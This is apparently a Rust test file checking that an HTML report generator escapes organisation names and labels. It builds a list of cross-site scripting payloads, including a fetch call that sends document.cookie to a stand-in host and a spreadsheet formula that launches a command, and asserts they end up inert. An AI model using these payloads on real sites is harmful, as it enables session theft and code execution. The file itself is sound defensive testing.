//! Labels that would do harm in a page, if any stood in it as text.

use super::*;

/// What harm is done with.
const DEEDS: [&str; 14] = [
    "alert(1)",
    "document.title='x'",
    "fetch('https://example.com/'+document.cookie)",
    "location=\"//example.com\"",
    "`${alert(1)}`",
    "\u{2028}alert(1)\u{2029}",
    "x\u{0}y",
    "&lt;b&gt;",
    "{{data}}",
    "{{title}}",
    "']]>\"",
    "\u{202e}txt.exe",
    "%3Cscript%3E",
    "=cmd|' /C calc'!A0",
];

/// How it would come to be done.
const WAYS: [&str; 16] = [
    "<script>DEED</script>",
    "</script><script>DEED</script>",
    "</SCRIPT ><script type=module>DEED</script>",
    "<!--<script>DEED",
    "--><img src=x onerror=DEED>",
    "</title><svg onload=DEED>",
    "\"><iframe srcdoc=\"<script>DEED</script>\">",
    "' onmouseover='DEED",
    "javascript:DEED",
    "<a href=javascript:DEED>x</a>",
    "<style>@import '//example.com/DEED'</style>",
    "<base href=//example.com/DEED>",
    "<meta http-equiv=refresh content='0;url=DEED'>",
    "<template>DEED</template></body></html>",
    "\\\"};DEED//",
    "DEED",
];

fn payloads() -> Vec<String> {
    let ways = WAYS.iter();
    let all = ways.flat_map(|way| DEEDS.iter().map(move |deed| way.replace("DEED", deed)));
    all.collect()
}

/// What stands in the page beside the template: the title, and the data's lines.
fn put_in(html: &[u8]) -> (String, String) {
    let html = std::str::from_utf8(html).expect("UTF-8");
    let (before, rest) = TEMPLATE.split_once(TITLE).expect("a title");
    let (between, after) = rest.split_once(DATA).expect("data");
    let rest = html.strip_prefix(before).expect("the template's start");
    let rest = rest.strip_suffix(after).expect("the template's end");
    let (title, data) = rest.split_once(between).expect("the template's middle");
    (title.to_owned(), data.to_owned())
}

fn unescaped(html: &str) -> String {
    let pairs = [
        ("&lt;", "<"),
        ("&gt;", ">"),
        ("&quot;", "\""),
        ("&#39;", "'"),
        ("&amp;", "&"),
    ];
    let bare = pairs.iter().fold(html.to_owned(), |html, (entity, _)| {
        html.replace(entity, "")
    });
    assert!(!bare.contains(['<', '>', '"', '\'', '&']), "{html}");
    pairs
        .iter()
        .fold(html.to_owned(), |html, (entity, letter)| {
            html.replace(entity, letter)
        })
}

/// The page holds the template, an escaped title and lines of base64, and nothing
/// else.
fn assert_inert(html: &[u8], organisation: &str) {
    let (title, data) = put_in(html);
    assert_eq!(unescaped(&title), organisation);
    for line in data.split('\n') {
        let rest = line.strip_prefix("<script type=\"text/plain\" id=\"lodestar-");
        let (name, rest) = rest
            .and_then(|rest| rest.split_once("\">"))
            .expect("a block");
        let plain = |byte: u8| byte.is_ascii_lowercase() || b"_-0123456789".contains(&byte);
        assert!(name.bytes().all(plain), "{name}");
        let text = rest.strip_suffix("</script>").expect("a block");
        let digit = |byte: u8| byte.is_ascii_alphanumeric() || b"+/=".contains(&byte);
        assert!(text.bytes().all(digit), "{name}");
    }
}

#[test]
fn no_label_stands_in_the_page_as_text_and_all_come_back() {
    let payloads = payloads();
    assert!(payloads.len() >= 200, "{}", payloads.len());
    let mut world = World::new(payloads.len(), payloads.len(), 1);
    world.units.clone_from(&payloads);
    world.metrics.clone_from(&payloads);
    world.themes.clone_from(&payloads);
    world.competencies.clone_from(&payloads);
    let facts = world.facts();
    let rows = facts.num_rows();
    let some = facts.slice(rows - 3 * payloads.len(), 3 * payloads.len());
    let html = made(&world.files_with(&some)).expect("a page");
    assert_inert(&html, &world.organisation);
    let page = decode::page(&html);
    let labels = |name: &str| -> Vec<String> {
        let rows = page.head["dimensions"][name]["rows"].as_array();
        let labels = rows.expect(name).iter().map(|row| row[1].as_str());
        labels
            .map(|label| label.expect("a label").to_owned())
            .collect()
    };
    assert_eq!(labels("dim_org_unit")[1..], payloads);
    for name in ["dim_metric", "dim_theme", "dim_competency"] {
        assert_eq!(labels(name), payloads, "{name}");
    }
    // And beside the words of the table of facts.
    let columns = &page.head["tables"][0]["columns"];
    let shown = columns[1]["labels"].as_array().expect("labels");
    assert_eq!(shown[..], payloads[payloads.len() - 3..]);
    let words = columns[2]["words"].as_array().expect("words").iter();
    for (word, label) in words.zip(columns[2]["labels"].as_array().expect("labels")) {
        let number: usize = word
            .as_str()
            .and_then(|id| id[1..].parse().ok())
            .expect("an id");
        assert_eq!(*label, payloads[number]);
    }
}

#[test]
fn no_name_of_an_organisation_stands_in_the_page_unescaped() {
    for payload in payloads() {
        let html = filled(&payload, "");
        let (title, data) = put_in(html.as_bytes());
        assert_eq!((unescaped(&title), data), (payload, String::new()));
    }
    let mut world = World::new(1, 1, 1);
    let deeds = DEEDS.iter().cycle();
    for (way, deed) in WAYS.iter().zip(deeds) {
        world.organisation = way.replace("DEED", deed);
        let html = made(&world.files()).expect("a page");
        assert_inert(&html, &world.organisation);
        let page = decode::page(&html);
        assert_eq!(page.head["organisation"], world.organisation.as_str());
        assert_eq!(page.rows.len(), 2);
    }
}
